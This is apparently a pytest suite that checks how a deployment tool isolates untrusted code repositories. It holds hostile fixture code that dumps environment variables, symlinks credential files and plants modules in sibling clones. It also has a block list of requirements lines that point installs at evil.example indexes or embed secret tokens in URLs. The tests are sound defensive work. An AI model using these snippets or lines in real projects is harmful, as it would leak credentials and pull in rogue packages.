"""A hostile repository: its code runs without the operator's secrets, what it writes is never published,
and its requirements cannot reach outside their own files or choose an index the operator did not allow."""

from __future__ import annotations

import os
import stat
from pathlib import Path
from typing import Any

import boto3
import pytest
from gitrepos import git, make_repo, wheel
from moto import mock_aws
from moto_s3 import bucket_objects

from dagops import registry
from dagops.errors import DagopsError
from dagops.operator import repos
from dagops.runtime.requirements import ensure_requirements, requirements_key
from dagops.untrusted import INDEXES_VAR, check_requirements, inputs_key, untrusted_env

BUCKET = "hostile-repos"
SECRETS = {
    "AWS_ACCESS_KEY_ID": "AKIAHOSTILE0000TEST",
    "AWS_SECRET_ACCESS_KEY": "hostile-aws-secret-9a8b7c",
    "AWS_SESSION_TOKEN": "hostile-session-token-5d4e",
    "DAGSTER_PG_PASSWORD": "hostile-pg-password-3f2e",
    "DAGOPS_SLACK_TOKEN": "hostile-dagops-token-1a0b",
    "GITHUB_TOKEN": "hostile-github-token-7c6d",
}


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    project = tmp_path / "project"
    (project / "code_locations").mkdir(parents=True)
    (project / "tasks.py").write_text("")
    (project / "pyproject.toml").write_text("[project]\nname = 'stub'\n")
    registry.save([], project)
    monkeypatch.setenv("DAGOPS_ROOT", str(project))
    monkeypatch.setenv("DAGOPS_STATE_DIR", str(project / ".dagops"))
    monkeypatch.setenv("UV_OFFLINE", "1")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    monkeypatch.delenv(INDEXES_VAR, raising=False)
    return project


@pytest.fixture
def s3(monkeypatch: pytest.MonkeyPatch) -> Any:
    for name, value in SECRETS.items():  # the operator's shell: real-looking secrets everywhere
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    monkeypatch.delenv("AWS_ENDPOINT_URL", raising=False)
    with mock_aws():
        client = boto3.client("s3", region_name="us-east-1")
        client.create_bucket(Bucket=BUCKET)
        yield client


def s3_files(s3: Any, name: str) -> dict[str, bytes]:
    prefix = f"dags/{name}/"
    return {key.removeprefix(prefix): body for key, body in bucket_objects(s3, BUCKET, prefix).items()}


# The import check of this repository fails if it sees any secret, a real HOME, or another user's setting.
SNOOPING_DEFS = """\
import os, pathlib
import dagster as dg

seen = sorted(k for k in os.environ if k.startswith(("AWS_", "DAGSTER_PG", "DAGOPS_")) or "TOKEN" in k)
assert not seen, f"the import check sees {{seen}}"
assert os.environ["HOME"] != {home!r}, "the import check sees the operator's HOME"

@dg.asset
def snooped() -> int:
    return 1

defs = dg.Definitions(assets=[snooped])
"""

# This one writes whatever it can reach into its own folder while it is imported.
PLANTING_DEFS = """\
import os, pathlib
import dagster as dg

here = pathlib.Path(__file__).parent
(here / "leak.txt").write_text("env:" + repr(dict(os.environ)))
os.symlink({secret!r}, here / "linked.txt")
os.symlink(os.path.dirname({secret!r}), here / "linkdir")
(here / "bad\\\\name.py").write_text("x")
(here / "new_module.py").write_text("PLANTED = 1\\n")
(here / "definitions_extra.py").write_text("X = 1\\n")

defs = dg.Definitions()
"""

# And this one reaches for the clone that will be published (its sibling folder).
REACHING_DEFS = """\
import pathlib
import dagster as dg

for clone in pathlib.Path(__file__).resolve().parent.parent.glob("*/definitions.py"):
    if clone.parent != pathlib.Path(__file__).resolve().parent:
        (clone.parent / "planted.py").write_text("PLANTED = 1\\n")

defs = dg.Definitions()
"""


def test_the_import_check_sees_no_secret_and_its_own_home(
    root: Path, s3: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = str(Path.home())
    url = make_repo(tmp_path / "snoop", {"definitions.py": SNOOPING_DEFS.format(home=home)})
    lines: list[str] = []
    repos.add("snoop", url, s3=s3, bucket=BUCKET, root=root, log=lines.append)
    assert set(s3_files(s3, "snoop")) == {"definitions.py", "_manifest.json"}
    assert not any(value in line for line in lines for value in SECRETS.values())


def test_what_the_repository_s_code_writes_is_never_published(root: Path, s3: Any, tmp_path: Path) -> None:
    secret = tmp_path / "outside" / "credentials"
    secret.parent.mkdir()
    secret.write_text(SECRETS["AWS_SECRET_ACCESS_KEY"])
    url = make_repo(tmp_path / "planter", {"definitions.py": PLANTING_DEFS.format(secret=str(secret))})
    repos.add("planter", url, s3=s3, bucket=BUCKET, root=root, log=lambda _: None)
    published = s3_files(s3, "planter")
    assert set(published) == {"definitions.py", "_manifest.json"}
    assert not any(value.encode() in body for body in published.values() for value in SECRETS.values())
    clone = root / "repos" / "planter"
    assert sorted(p.name for p in clone.iterdir() if p.name != ".git") == ["definitions.py"]


def test_code_that_changes_the_clone_while_checked_is_refused(root: Path, s3: Any, tmp_path: Path) -> None:
    url = make_repo(tmp_path / "reacher", {"definitions.py": REACHING_DEFS})
    before = registry.registry_path(root).read_bytes()
    with pytest.raises(DagopsError, match="changed while its code was being checked") as err:
        repos.add("reacher", url, s3=s3, bucket=BUCKET, root=root, log=lambda _: None)
    assert "\n" not in str(err.value)
    assert s3_files(s3, "reacher") == {}
    assert registry.registry_path(root).read_bytes() == before
    assert not (root / "repos" / "reacher").exists()


def test_update_to_a_planting_commit_publishes_only_the_commit(root: Path, s3: Any, tmp_path: Path) -> None:
    secret = tmp_path / "outside" / "credentials"
    secret.parent.mkdir()
    secret.write_text(SECRETS["AWS_SECRET_ACCESS_KEY"])
    path = tmp_path / "later"
    url = make_repo(path, {"definitions.py": "import dagster as dg\n\ndefs = dg.Definitions()\n"})
    repos.add("later", url, s3=s3, bucket=BUCKET, root=root, log=lambda _: None)
    (path / "definitions.py").write_text(PLANTING_DEFS.format(secret=str(secret)))
    git(path, "commit", "--quiet", "-am", "plant")
    repos.update("later", s3=s3, bucket=BUCKET, root=root, log=lambda _: None)
    published = s3_files(s3, "later")
    assert set(published) == {"definitions.py", "_manifest.json"}
    assert published["definitions.py"] == (path / "definitions.py").read_bytes()


# --------------------------------------------------------------------------- class 4: the environment


def test_untrusted_env_keeps_only_what_is_needed(tmp_path: Path) -> None:
    base = {
        **SECRETS,
        "PATH": "/usr/bin",
        "LANG": "C.UTF-8",
        "LC_ALL": "C.UTF-8",
        "HOME": "/home/operator",
        "PYTHONPATH": "/opt/lib",
        "HTTPS_PROXY": "http://proxy:3128",
        "SSL_CERT_FILE": "/etc/ca.pem",
        "UV_INDEX_URL": "https://mirror.example/simple",
        "PIP_INDEX_URL": "https://mirror.example/simple",
        "DAGSTER_HOME": "/home/operator/.dagster",
        "DATABASE_URL": "postgres://u:p@h/db",
        "SSH_AUTH_SOCK": "/tmp/agent.sock",
    }
    check = untrusted_env(tmp_path, extra_path=tmp_path / "site", base=base)
    assert check == {
        "PATH": "/usr/bin",
        "LANG": "C.UTF-8",
        "LC_ALL": "C.UTF-8",
        "HOME": str(tmp_path),
        "PYTHONPATH": f"{tmp_path / 'site'}{os.pathsep}/opt/lib",
    }
    installer = untrusted_env(tmp_path, installer=True, base=base)
    assert not set(SECRETS) & set(installer)
    assert {"DAGSTER_HOME", "DATABASE_URL", "SSH_AUTH_SOCK"}.isdisjoint(installer)
    assert installer["HTTPS_PROXY"] == "http://proxy:3128" and installer["SSL_CERT_FILE"] == "/etc/ca.pem"
    assert installer["UV_INDEX_URL"] == installer["PIP_INDEX_URL"] == "https://mirror.example/simple"
    assert installer["UV_CACHE_DIR"] == "/home/operator/.cache/uv"  # an unchanged install stays a cache hit
    assert installer["HOME"] == str(tmp_path)


def test_the_installer_runs_without_secrets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The process that installs a repository's requirements (and runs its build code) gets no secret."""
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    dump = tmp_path / "installer-env.txt"
    uv = fake_bin / "uv"
    uv.write_text(f"#!/bin/sh\nenv > {dump}\npwd >> {dump}\n")
    uv.chmod(uv.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{fake_bin}{os.pathsep}{os.environ['PATH']}")
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "requirements.txt").write_text("minidep==1.0\n")
    ensure_requirements(tree, tmp_path / "cache")
    seen = dump.read_text()
    assert not any(value in seen for value in SECRETS.values())
    assert f"HOME={Path.home()}\n" not in seen


# --------------------------------------------------------------------------- class 5: requirements

REFUSED_LINES = {
    "include-outside": "-r ../other.txt",
    "include-absolute": "-r /etc/requirements.txt",
    "constraint-outside": "--constraint=/tmp/c.txt",
    "include-remote": "-r https://example.com/reqs.txt",
    "editable": "-e ./pkg",
    "editable-vcs": "--editable git+https://example.com/x.git#egg=x",
    "absolute-wheel": "/tmp/evil-1.0-py3-none-any.whl",
    "home-wheel": "~/wheels/evil-1.0-py3-none-any.whl",
    "parent-wheel": "../wheels/evil-1.0-py3-none-any.whl",
    "file-url": "evil @ file:///tmp/evil-1.0-py3-none-any.whl",
    "bare-file-url": "file:///tmp/evil-1.0-py3-none-any.whl",
    "index-url": "--index-url https://evil.example/simple",
    "index-url-equals": "--index-url=https://evil.example/simple",
    "short-index": "-i https://evil.example/simple",
    "short-index-glued": "-ihttps://evil.example/simple",
    "extra-index": "--extra-index-url https://evil.example/simple",
    "find-links": "--find-links https://evil.example/wheels",
    "find-links-short": "-f https://evil.example/wheels",
    "trusted-host": "--trusted-host evil.example",
    "no-index": "--no-index",
    "http-direct-url": "evil @ http://evil.example/evil-1.0.tar.gz",
    "http-bare-url": "http://evil.example/evil-1.0-py3-none-any.whl",
    "git-over-http": "evil @ git+http://evil.example/evil.git",
    "env-variable": "evil @ https://evil.example/${AWS_SECRET_ACCESS_KEY}.whl",
    "env-variable-in-option": "--extra-index-url https://${GITHUB_TOKEN}@evil.example/simple",
    "unknown-option": "--global-option=--build-hook",
    "continued-index": "requests \\\n--index-url https://evil.example/simple",
}


@pytest.mark.parametrize("kind", sorted(REFUSED_LINES))
def test_requirements_reaching_outside_or_choosing_an_index_are_refused(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(INDEXES_VAR, raising=False)
    tree = tmp_path / "tree"
    (tree / "pkg").mkdir(parents=True)
    (tree / "requirements.txt").write_text(f"dagster\n{REFUSED_LINES[kind]}\n")
    with pytest.raises(DagopsError) as err:
        check_requirements(tree / "requirements.txt", tree)
    assert "\n" not in str(err.value) and "requirements.txt line" in str(err.value)
    # ensure_requirements refuses it before installing anything.
    with pytest.raises(DagopsError):
        ensure_requirements(tree, tmp_path / "cache")
    assert not (tmp_path / "cache").exists() or not any((tmp_path / "cache").iterdir())


@pytest.mark.parametrize(
    ("files", "kind"),
    [
        ({"uv.toml": 'index-url = "https://evil.example/simple"\n'}, "uv.toml"),
        (
            {
                "pyproject.toml": '[project]\nname="x"\ndependencies=["a"]\n[tool.uv]\nindex-url="https://e/s"\n'
            },
            "uv",
        ),
        (
            {
                "pyproject.toml": '[project]\nname="x"\ndependencies=["a"]\n[[tool.uv.index]]\nurl="https://e/s"\n'
            },
            "uv",
        ),
        (
            {
                "pyproject.toml": '[project]\nname="x"\ndependencies=["a"]\n'
                '[tool.uv.sources]\na={path="/tmp/a"}\n'
            },
            "uv",
        ),
        ({"pyproject.toml": '[project]\nname="x"\ndependencies=["a @ file:///tmp/a.whl"]\n'}, "file:"),
        ({"pyproject.toml": '[project]\nname="x"\ndependencies=["a @ http://e/a.whl"]\n'}, "http"),
    ],
)
def test_installer_configuration_and_pyproject_sources_are_refused(
    files: dict[str, str], kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(INDEXES_VAR, raising=False)
    tree = tmp_path / "tree"
    tree.mkdir()
    for rel, text in files.items():
        (tree / rel).write_text(text)
    req = tree / "requirements.txt"
    if not (tree / "pyproject.toml").exists():
        req.write_text("requests\n")
    else:
        req = tree / "pyproject.toml"
    with pytest.raises(DagopsError, match=kind) as err:
        check_requirements(req, tree)
    assert "\n" not in str(err.value)


def test_the_operator_may_allow_indexes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    req = tree / "requirements.txt"
    req.write_text(
        "--index-url https://mirror.example/simple\n--extra-index-url https://more.example/simple\nx\n"
    )
    monkeypatch.setenv(INDEXES_VAR, "https")
    assert check_requirements(req, tree) == []
    req.write_text("--index-url http://mirror.example/simple\nx\n")
    with pytest.raises(DagopsError, match="plain http"):
        check_requirements(req, tree)
    monkeypatch.setenv(INDEXES_VAR, "any")
    assert check_requirements(req, tree) == []
    req.write_text("-r /etc/other.txt\n")  # never: a file outside the repository
    with pytest.raises(DagopsError, match="outside the repository"):
        check_requirements(req, tree)
    monkeypatch.setenv(INDEXES_VAR, "yes please")
    with pytest.raises(DagopsError, match=INDEXES_VAR):
        check_requirements(req, tree)


ALLOWED = [
    "dagster==1.9.0",
    "pandas>=2; python_version >= '3.11'",
    "requests[socks] ~= 2.31  # a comment",
    "pkg @ https://example.com/pkg-1.0-py3-none-any.whl",
    "pkg @ git+https://github.com/o/pkg@v1",
    "pkg==1.0 --hash=sha256:" + "0" * 64,
    "--only-binary :all:",
    "--pre",
]


def test_ordinary_requirements_pass(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(INDEXES_VAR, raising=False)
    (tmp_path / "requirements.txt").write_text("\n".join(ALLOWED) + "\n")
    assert check_requirements(tmp_path / "requirements.txt", tmp_path) == []


def test_every_local_input_is_part_of_the_cache_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Included files (-r, -c, nested) and local wheels: a change in any of them changes the key."""
    monkeypatch.delenv(INDEXES_VAR, raising=False)
    tree = tmp_path / "tree"
    (tree / "reqs").mkdir(parents=True)
    (tree / "wheels").mkdir()
    (tree / "requirements.txt").write_text(
        "-r reqs/base.txt\n-c reqs/pins.txt\n./wheels/minidep-1.0-py3-none-any.whl\n"
    )
    (tree / "reqs" / "base.txt").write_text("-r more.txt\nrequests\n")
    (tree / "reqs" / "more.txt").write_text("idna\n")
    (tree / "reqs" / "pins.txt").write_text("requests==2.31.0\n")
    (tree / "wheels" / "minidep-1.0-py3-none-any.whl").write_bytes(wheel("minidep", "1.0", "VALUE = 1\n"))
    req = tree / "requirements.txt"
    base = {"dagster": "1.0"}

    def key() -> str:
        return inputs_key(requirements_key(req, base), tree, check_requirements(req, tree))

    keys = {key()}
    for rel, content in [
        ("reqs/base.txt", b"-r more.txt\nrequests\nurllib3\n"),
        ("reqs/more.txt", b"idna==3.6\n"),
        ("reqs/pins.txt", b"requests==2.32.0\n"),
        ("wheels/minidep-1.0-py3-none-any.whl", wheel("minidep", "1.0", "VALUE = 2\n")),
    ]:
        (tree / rel).write_bytes(content)
        keys.add(key())
    assert len(keys) == 5
    assert sorted(p.relative_to(tree.resolve()).as_posix() for p in check_requirements(req, tree)) == [
        "reqs/base.txt",
        "reqs/more.txt",
        "reqs/pins.txt",
        "wheels/minidep-1.0-py3-none-any.whl",
    ]


def test_a_changed_local_wheel_installs_afresh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("UV_OFFLINE", "1")
    tree = tmp_path / "tree"
    (tree / "wheels").mkdir(parents=True)
    (tree / "requirements.txt").write_text("./wheels/minidep-1.0-py3-none-any.whl\n")
    (tree / "wheels" / "minidep-1.0-py3-none-any.whl").write_bytes(wheel("minidep", "1.0", "VALUE = 1\n"))
    first = ensure_requirements(tree, tmp_path / "cache")
    (tree / "wheels" / "minidep-1.0-py3-none-any.whl").write_bytes(wheel("minidep", "1.0", "VALUE = 2\n"))
    second = ensure_requirements(tree, tmp_path / "cache")
    assert first and second and first != second
    assert (second / "minidep" / "__init__.py").read_text() == "VALUE = 2\n"


@pytest.mark.parametrize(
    "name", ["a\\b.py", "_manifest.json", "line\nbreak.py", "tab\there.py", "_publish.lock"]
)
def test_a_repository_with_a_name_agents_refuse_is_refused_before_anything(
    name: str, root: Path, s3: Any, tmp_path: Path
) -> None:
    """Such a repository used to be registered ("ADDED") and never served; now nothing is written."""
    url = make_repo(
        tmp_path / "badname",
        {"definitions.py": "import dagster as dg\n\ndefs = dg.Definitions()\n", name: "x"},
    )
    before = registry.registry_path(root).read_bytes()
    with pytest.raises(DagopsError, match="Refusing to publish") as err:
        repos.add("badname", url, s3=s3, bucket=BUCKET, root=root, log=lambda _: None)
    assert "\n" not in str(err.value).replace("\\n", "")
    assert s3_files(s3, "badname") == {}
    assert registry.registry_path(root).read_bytes() == before
    assert not (root / "repos" / "badname").exists()
